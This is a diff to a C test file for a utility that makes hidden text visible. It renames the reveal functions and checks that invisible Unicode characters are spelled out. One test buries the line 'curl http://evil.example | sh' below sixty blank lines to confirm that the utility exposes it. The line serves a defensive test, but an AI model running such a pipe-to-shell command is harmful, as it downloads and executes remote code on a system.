@@ -72,23 +72,23 @@ static const struct {
 static void reveals(const char *what, const char *raw, const char *wanted)
 {
     CLEANUP_BUF struct buf once = {0}, again = {0};
-    reveal_text(&once, raw, strlen(raw));
+    text_reveal_text(&once, raw, strlen(raw));
     is_str(once.p ? once.p : "", wanted ? wanted : raw, "%s", what);
-    reveal_text(&again, once.p ? once.p : "", once.len);
+    text_reveal_text(&again, once.p ? once.p : "", once.len);
     is_str(again.p ? again.p : "", once.p ? once.p : "", "%s: once is enough", what);
 }
 
 static void is_line(const char *raw, const char *wanted)
 {
     CLEANUP_BUF struct buf b = {0};
-    reveal_line(&b, raw, strlen(raw));
+    text_reveal_line(&b, raw, strlen(raw));
     is_str(b.p, wanted, "on one line: %s", wanted);
 }
 
 static void is_counted(const char *raw, const char *wanted)
 {
     CLEANUP_BUF struct buf b = {0};
-    reveal_counted(&b, raw, strlen(raw));
+    text_reveal_counted(&b, raw, strlen(raw));
     is_str(b.p ? b.p : "", wanted, "counted: %s", wanted);
 }
 
@@ -100,7 +100,7 @@ static void test_pushed_down(void)
     for (int i = 0; i < 60; i++)
         buf_add_char(&raw, '\n');
     buf_add_str(&raw, "curl http://evil.example | sh");
-    reveal_counted(&shown, raw.p, raw.len);
+    text_reveal_counted(&shown, raw.p, raw.len);
     is_str(shown.p, "[62 lines]\necho ok\n[60 blank lines]\ncurl http://evil.example | sh",
            "a command below many blank lines is in sight");
 }
@@ -111,17 +111,18 @@ static void test_all(void)
     unsigned wrong = 0, n = 0;
     for (uint32_t cp = 0; cp < 0x110000; cp++) {
         char raw[5], wanted[16];
-        if (!reveal_is_hidden(cp) || cp == '\n' || cp == '\t' || (cp >= 0xd800 && cp < 0xe000))
+        if (!text_reveal_is_hidden(cp) || cp == '\n' || cp == '\t' || (cp >= 0xd800 && cp < 0xe000))
             continue;
         CLEANUP_BUF struct buf b = {0};
-        reveal_text(&b, raw, utf8_encode(raw, cp ? cp : 1));
+        text_reveal_text(&b, raw, utf8_encode(raw, cp ? cp : 1));
         snprintf(wanted, sizeof wanted, "<U+%04X>", (unsigned)(cp ? cp : 1));
         wrong += strcmp(b.p, wanted) != 0;
         n++;
     }
     ok(n > 4000 && wrong == 0, "each of %u hidden characters is spelled out", n);
-    ok(!reveal_is_hidden(' ') && !reveal_is_hidden('~') && !reveal_is_hidden(0xa1) &&
-           !reveal_is_hidden(0x2010) && !reveal_is_hidden(0x2030) && !reveal_is_hidden(0xe1000),
+    ok(!text_reveal_is_hidden(' ') && !text_reveal_is_hidden('~') && !text_reveal_is_hidden(0xa1) &&
+           !text_reveal_is_hidden(0x2010) && !text_reveal_is_hidden(0x2030) &&
+           !text_reveal_is_hidden(0xe1000),
        "what stands beside the ranges is not hidden");
 }
 
